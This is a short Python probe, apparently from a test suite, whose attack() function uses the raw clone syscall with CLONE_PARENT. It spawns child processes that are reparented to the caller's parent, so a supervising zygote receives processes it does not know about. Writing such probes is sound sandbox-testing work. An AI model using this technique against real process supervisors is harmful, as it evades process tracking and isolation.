"""Makes a child that is its parent's: clone with CLONE_PARENT hands the zygote a process it does not know."""

import ctypes
import os
import platform
import signal
import time

CLONE = {"x86_64": 56, "aarch64": 220}[platform.machine()]
CLONE_PARENT = 0x8000


def attack():
    syscall = ctypes.CDLL(None, use_errno=True).syscall
    for stay in (0, 5):
        child = syscall(CLONE, ctypes.c_long(CLONE_PARENT | signal.SIGCHLD), None, None, None, None)
        if child == 0:
            time.sleep(stay)
            os._exit(0)
    return None  # whether it was left behind, or the zygote confused, shows from outside
